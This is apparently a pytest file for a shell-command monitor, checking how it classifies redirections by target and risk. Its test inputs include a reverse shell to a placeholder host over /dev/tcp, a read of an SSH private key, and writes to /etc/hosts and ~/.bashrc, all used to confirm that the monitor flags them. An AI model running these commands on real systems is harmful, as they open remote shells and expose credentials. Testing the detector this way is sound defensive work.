"""Redirections: files that the shell itself reads and writes, and its network devices."""

import pytest

from tests.interposer.judging import effects, judge

pytestmark = pytest.mark.suite("unfold")

TABLE = {
    "write": ("echo a > out.txt", ["write out.txt @project by >"]),
    "append-to-system": ("echo a >> /etc/hosts", ["write /etc/hosts @system by >> dangerous"]),
    "start-up-file": ("echo a >| ~/.bashrc", ["write ~/.bashrc @startup by >| hard"]),
    "both-streams": ("make &> /etc/log", ["write /etc/log @system by &> dangerous"]),
    "read-write": ("exec 3<> /etc/x", ["write /etc/x @system by <> dangerous"]),
    "secret-read": ("cat < ~/.ssh/id_rsa", ["read ~/.ssh/id_rsa @secret via stdin by < dangerous"]),
    "descriptors": ("ls 2>&1 >&2 3>&-", []),
    "null": ("ls > /dev/null 2>&1", ["write /dev/null @null by >"]),
    "file-behind-a-duplicate": ("ls >& /etc/x", ["write /etc/x @system by >& dangerous"]),
    "socket": ("echo x > /dev/tcp/h/1", ["send /dev/tcp/h/1 by > recorded"]),
    "shell-on-a-socket": ("bash -i >& /dev/tcp/h/1 0>&1", ["send:remote-shell /dev/tcp/h/1 by >& hard"]),
    "compound-once": ("{ ls; pwd; } > /etc/x", ["write /etc/x @system by > dangerous"]),
    "loop": ("for f in a b; do cat $f; done > log", ["write log @project by >", "read $f @project"]),
    "unknown-target": ("echo a > $(cat x)", ["write:computed $(cat x) @unknown by > dangerous", "read x @project"]),
    "variable-target": ('echo a > "$OUT"', ["write:deferred $OUT @unknown by > recorded"]),
    "no-command": ("> out.txt", ["write out.txt @project by >"]),
}


@pytest.mark.parametrize(("line", "expected"), TABLE.values(), ids=TABLE)
def test_a_redirection_is_an_effect_of_its_command(line, expected) -> None:
    """Writes and reads by place, carried by the operator; descriptors and the null device are nothing."""
    assert effects(judge(line)) == expected
